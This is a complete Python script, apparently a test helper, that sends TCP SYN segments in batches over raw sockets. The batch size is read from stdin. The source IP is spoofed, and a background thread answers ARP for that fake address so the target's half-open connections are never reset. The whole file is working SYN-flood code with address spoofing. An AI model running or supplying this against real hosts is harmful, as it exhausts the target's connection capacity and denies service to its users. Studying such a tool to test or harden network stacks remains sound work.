"""syn.py DEVICE SOURCE TARGET PORT: `syn N` sends N first segments of handshakes that nobody will finish.

SOURCE must be nobody's address, so that no kernel resets what is answered; we answer ARP for it.
"""
import socket
import struct
import sys
import threading

dev, src, dst, port = sys.argv[1], socket.inet_aton(sys.argv[2]), socket.inet_aton(sys.argv[3]), int(sys.argv[4])


def checksum(data):
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    s = (s & 0xFFFF) + (s >> 16)
    return ~(s + (s >> 16)) & 0xFFFF


def segment(sport):
    tcp = struct.pack("!HHIIBBHHH", sport, port, 1000, 0, 5 << 4, 2, 65535, 0, 0)
    total = checksum(src + dst + struct.pack("!HH", 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", total) + tcp[18:]
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, src, dst)
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + tcp


def answer_arp(s, mac):
    while True:
        f = s.recv(2048)
        if f[20:22] == b"\0\1" and f[38:42] == src:
            s.send(f[6:12] + mac + b"\x08\x06" + f[14:20] + b"\0\2" + mac + src + f[6:12] + f[28:32])


arp = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
arp.bind((dev, 0x0806))
threading.Thread(target=answer_arp, args=(arp, arp.getsockname()[4]), daemon=True).start()
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("up", flush=True)
for line in sys.stdin:
    n = int(line.split()[1])
    for i in range(n):
        raw.sendto(segment(10000 + i), (sys.argv[3], 0))
    print(f"sent {n}", flush=True)
